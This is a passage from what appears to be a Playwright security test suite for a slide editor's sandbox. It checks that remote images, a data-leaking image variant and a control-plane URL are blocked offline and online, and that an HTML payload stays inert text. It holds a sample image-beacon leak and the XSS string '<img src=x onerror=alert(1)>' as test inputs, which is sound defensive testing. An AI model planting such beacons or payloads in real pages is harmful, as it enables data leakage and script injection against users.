    // The content names four images; the component adds a fifth, a variant of the remote one that the content does not name.
    const tsx = `import content from "./slide.content.json";
export default function Pictures() {
  const urls: string[] = content.blocks.map((b: any) => b.url);
  return <div>{urls.map((url, i) => <img key={i} id={"img" + i} src={url} alt="" />)}<img id="variant" src={urls[2] + "&leak=1"} alt="" /></div>;
}`
    const content = (origin: string) => ({
      title: 'Pictures',
      blocks: [
        { type: 'image', url: PNG, alt: 'data' },
        { type: 'image', url: '/_emulator/assets/favicon.svg', alt: 'own' },
        { type: 'image', url: remote, alt: 'remote' },
        { type: 'image', url: `${origin}/_emulator/state`, alt: 'the control plane' },
      ],
    })
    const offline = await openDeck([{ tsx, content: content(served.origin) }, BENIGN], 'Pictures offline')
    const frame = await displayFrame(offline.page, offline.ids[0]!, 'stage')
    await expect.poll(() => frame.locator('#img0').evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth), POLL).toBe(1)
    await expect
      .poll(() => frame.locator('#img1').evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth > 0), POLL)
      .toBe(true)
    for (const id of ['img2', 'img3', 'variant']) expect(await frame.locator(`#${id}`).getAttribute('src')).toBeNull()
    await stillFine(offline.page, offline.slug, offline.ids, offline.journalBefore)
    expect(foreignRequests(observed!.requests, served.origin)).toEqual([])
    await observed!.close()
    observed = undefined
    expect(images.connections).toBe(0)

    const online = await serveEmulator({ allowRemoteImages: true })
    const page = await observedPage(browser)
    try {
      const { slug, ids } = await makeDeck(online, 'Pictures online', [{ tsx, content: content(online.origin) }])
      await page.page.goto(`${online.origin}/editor/${slug}`)
      await settled(page.page)
      const shownOnline = await displayFrame(page.page, ids[0]!, 'stage')
      await expect
        .poll(() => shownOnline.locator('#img2').evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth > 0), POLL)
        .toBe(true)
      expect(await shownOnline.locator('#variant').getAttribute('src')).toBeNull()
      expect(await shownOnline.locator('#img3').getAttribute('src')).toBeNull()
      // The stage, the thumbnail and the (hidden) content rendering each loaded it: only ever the URL the content names.
      expect(new Set(images.requests)).toEqual(new Set(['GET /photo.png?w=200&h=100']))
      expect(foreignRequests(page.requests, online.origin).filter((url) => url !== remote)).toEqual([])
      expect(page.errors).toEqual([])
    } finally {
      await page.close()
      await online.close()
      await images.close()
    }
  })

  it('invariant 8: control fields, error messages and module names show as text, never as markup', async () => {
    const html = '<img src=x onerror=alert(1)><b>bold</b>'
    const { page, slug, ids, journalBefore } = await openDeck(
      [
        {
          tsx: 'export default (p: any) => <p>{String(p.x)}</p>',
          controls: {
            controls: [
              { id: 'x', type: 'select', label: html, options: [html, { label: html, value: 'v' }], default: html },
              { id: 'y', type: html, label: 'Odd type', default: html },
              { id: html, type: 'text', label: 'Odd id', default: 1 },
            ],
          },
        },
        { tsx: `import x from ${JSON.stringify(html)};\nexport default () => <p>{String(x)}</p>` },
        BENIGN,
      ],
      'Text only',
    )
    const panel = page.locator('#controls-panel')
    await expect.poll(() => panel.textContent(), POLL).toContain(html)
    expect(await panel.locator('img, b').count()).toBe(0)
    expect(await panel.locator('select option').allTextContents()).toEqual([html, html])
    expect(await errorOf(page, ids[1]!)).toContain(`slide.tsx imports "${html}", which a slide cannot use`)
    expect(await page.locator('.component-error img, .component-error b').count()).toBe(0)
    await stillFine(page, slug, ids, journalBefore)
  })
})
